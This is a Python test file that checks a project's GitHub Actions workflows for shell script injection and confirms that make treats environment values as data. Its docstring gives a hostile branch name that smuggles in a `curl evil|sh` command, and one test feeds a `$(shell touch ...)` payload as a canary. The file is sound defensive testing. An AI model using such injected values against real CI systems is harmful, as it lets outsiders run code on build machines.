"""GitHub Actions workflows: no `${{ }}` expression is expanded inside a shell script.

Actions substitutes expressions into a `run:` script before the shell sees it, so a value an
outsider controls (a branch name, a repository variable, a pull request's title) becomes shell
code: `make cost-diff BASE=origin/${{ github.base_ref }}` runs whatever a branch named
`x;curl evil|sh` says. Values reach scripts through `env:` instead, where the shell treats them
as data.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

WORKFLOWS = sorted((Path(__file__).resolve().parents[1] / ".github" / "workflows").glob("*.y*ml"))


def run_scripts(document: Any, where: str = "") -> list[tuple[str, str]]:
    """(location, script) of every `run:` value anywhere in a workflow document."""
    found: list[tuple[str, str]] = []
    if isinstance(document, dict):
        for key, value in document.items():
            if key == "run" and isinstance(value, str):
                found.append((where, value))
            else:
                found += run_scripts(value, f"{where}/{key}")
    elif isinstance(document, list):
        for index, item in enumerate(document):
            name = item.get("name", index) if isinstance(item, dict) else index
            found += run_scripts(item, f"{where}[{name}]")
    return found


def test_there_are_workflows_with_scripts() -> None:
    assert WORKFLOWS
    assert all(run_scripts(yaml.safe_load(p.read_text())) for p in WORKFLOWS)


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_no_expression_inside_a_run_script(workflow: Path) -> None:
    scripts = run_scripts(yaml.safe_load(workflow.read_text()))
    offending = [(where, script) for where, script in scripts if "${{" in script]
    assert not offending, f"pass these through env: instead: {offending}"


def test_the_finder_sees_an_expression_in_a_script() -> None:
    sample = yaml.safe_load("jobs:\n  j:\n    steps:\n      - run: echo ${{ github.base_ref }}\n")
    assert run_scripts(sample) == [("/jobs/j/steps[0]", "echo ${{ github.base_ref }}")]


def test_cost_diff_values_stay_data_in_make(tmp_path: Path) -> None:
    """The workflow hands `make cost-diff` its base ref and context as COST_DIFF_BASE /
    COST_DIFF_ARGS; make must not evaluate them (`$(shell ...)` in a make variable would run)."""
    import os
    import subprocess

    marker = tmp_path / "pwned"
    hostile = f"$(shell touch {marker})"
    env = {**os.environ, "COST_DIFF_BASE": hostile, "COST_DIFF_ARGS": hostile}
    root = WORKFLOWS[0].parents[2]
    out = subprocess.run(
        ["make", "-n", "-W", "requirements.txt", "cost-diff"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert out.returncode == 0, out.stderr
    assert '--base "${COST_DIFF_BASE:-main}" --  ${COST_DIFF_ARGS:-}' in out.stdout
    assert not marker.exists()
    workflow = (root / ".github" / "workflows" / "cost-diff.yml").read_text()
    assert "COST_DIFF_BASE: origin/${{ github.base_ref }}" in workflow
    assert "COST_DIFF_ARGS: ${{ vars.COST_DIFF_CONTEXT }}" in workflow
